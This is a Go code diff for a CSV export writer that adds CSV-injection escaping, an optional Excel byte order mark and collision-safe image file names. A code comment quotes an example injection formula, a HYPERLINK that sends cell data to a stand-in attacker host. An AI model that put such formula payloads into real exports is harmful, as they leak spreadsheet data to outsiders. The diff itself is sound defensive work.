@@ -5,8 +5,10 @@ import (
 	"encoding/json"
 	"errors"
 	"fmt"
+	"path/filepath"
 	"sort"
 	"strconv"
+	"strings"
 )
 
 // csvHeader is the fixed column set (a streamed export cannot look ahead for the kinds present):
@@ -29,11 +31,20 @@ func csvHeader() []string {
 }
 
 // CSV writes one RFC 4180 row per record (columns: csvHeader) to the file o.Out; the pictures are
-// copied as for JSONL (<file name>_images/<SafeName(id)>.<ext>) and file_name is relative to the file's
-// folder ("" when a record has none).
+// copied as for JSONL (<file name>_images/<SafeName(id)>.<ext>, with the id's hash where a name would
+// equal an earlier one but for case) and file_name is relative to the file's folder ("" when a record
+// has none).
+//
+// A spreadsheet reads a cell that starts with = + - or @ (or a tab or carriage return) as a formula, so
+// a caption like =HYPERLINK("http://evil.example/?x="&A1,"click") would become a live link: every text
+// cell that starts so gets a leading ' (OWASP's advice on CSV injection), unless o.CSVRaw. The value
+// columns hold numbers loupe formats itself (-1.5 is a number, not a formula) and are left as they are.
+// With o.Excel the file begins with a UTF-8 byte order mark, which Excel needs to read UTF-8.
 type CSV struct {
 	*fileWriter
-	c *csv.Writer
+	c     *csv.Writer
+	raw   bool
+	names names
 }
 
 // NewCSV starts a CSV export (an existing output is refused unless o.Force).
@@ -42,7 +53,13 @@ func NewCSV(o Options) (Writer, error) {
 	if err != nil {
 		return nil, err
 	}
-	w := &CSV{fileWriter: fw, c: csv.NewWriter(fw.w)}
+	w := &CSV{fileWriter: fw, c: csv.NewWriter(fw.w), raw: o.CSVRaw, names: names{}}
+	if o.Excel {
+		if _, err := fw.w.WriteString("\uFEFF"); err != nil {
+			fw.abort()
+			return nil, err
+		}
+	}
 	if err := w.c.Write(csvHeader()); err != nil {
 		fw.abort()
 		return nil, err
@@ -52,16 +69,43 @@ func NewCSV(o Options) (Writer, error) {
 
 func formatFloat(v float64) string { return strconv.FormatFloat(v, 'f', -1, 64) }
 
+// cell is a text cell as written: with a leading ' when a spreadsheet would read it as a formula.
+func (c *CSV) cell(s string) string {
+	if !c.raw && s != "" && strings.IndexByte("=+-@\t\r", s[0]) >= 0 {
+		return "'" + s
+	}
+	return s
+}
+
+// picture copies a record's picture into the images folder under a name no other picture of the export
+// has, ignoring case, and returns its path relative to the output file's folder ("" when none).
+func (c *CSV) picture(r *Record) (string, error) {
+	if len(r.Image) == 0 {
+		return "", nil
+	}
+	name := c.names.take(r.ID, SafeName(r.ID), imageExt(r))
+	p, err := inside(filepath.Join(c.dir, c.images), name)
+	if err != nil {
+		return "", err
+	}
+	c.wrote = true
+	if err := writeAtomic(p, r.Image); err != nil {
+		return "", fmt.Errorf("item %s: %w", r.ID, err)
+	}
+	return c.images + "/" + name, nil
+}
+
 // Write appends a record's row.
 func (c *CSV) Write(r *Record) error {
 	if c.done {
 		return errors.New("csv export: write after close")
 	}
-	img, err := c.image(r)
+	img, err := c.picture(r)
 	if err != nil {
 		return err
 	}
-	row := []string{r.ID, img, r.Kind, r.Subset, r.Track, r.Model, r.Decision, r.DecidedBy}
+	row := []string{c.cell(r.ID), c.cell(img), c.cell(r.Kind), c.cell(r.Subset), c.cell(r.Track), c.cell(r.Model),
+		c.cell(r.Decision), c.cell(r.DecidedBy)}
 	type other struct {
 		Texts  map[string]map[string]string `json:"texts,omitempty"`
 		Values map[string]Value             `json:"values,omitempty"`
@@ -70,7 +114,7 @@ func (c *CSV) Write(r *Record) error {
 	known := map[string]bool{}
 	for _, k := range textKinds {
 		known[k] = true
-		row = append(row, r.Texts[k]["en"], r.Texts[k]["zh"])
+		row = append(row, c.cell(r.Texts[k]["en"]), c.cell(r.Texts[k]["zh"]))
 	}
 	for k, langs := range r.Texts {
 		for lang, s := range langs {
@@ -93,7 +137,7 @@ func (c *CSV) Write(r *Record) error {
 			row = append(row, "", "")
 			continue
 		}
-		row = append(row, formatFloat(v.Value), v.Source)
+		row = append(row, formatFloat(v.Value), c.cell(v.Source))
 	}
 	keys := make([]string, 0, len(r.Values))
 	for d := range r.Values {
@@ -110,7 +154,7 @@ func (c *CSV) Write(r *Record) error {
 	}
 	h := r.History
 	row = append(row, strconv.Itoa(h.Events), strconv.Itoa(h.Annotators), strconv.Itoa(h.Accepts),
-		strconv.Itoa(h.Rejects), strconv.Itoa(h.Flags), strconv.Itoa(h.Undos), h.Last)
+		strconv.Itoa(h.Rejects), strconv.Itoa(h.Flags), strconv.Itoa(h.Undos), c.cell(h.Last))
 	extra := ""
 	if rest.Texts != nil || rest.Values != nil {
 		b, err := json.Marshal(rest)
@@ -119,7 +163,7 @@ func (c *CSV) Write(r *Record) error {
 		}
 		extra = string(b)
 	}
-	row = append(row, extra)
+	row = append(row, c.cell(extra)) // a JSON object: starts with {
 	if err := c.c.Write(row); err != nil {
 		return err
 	}
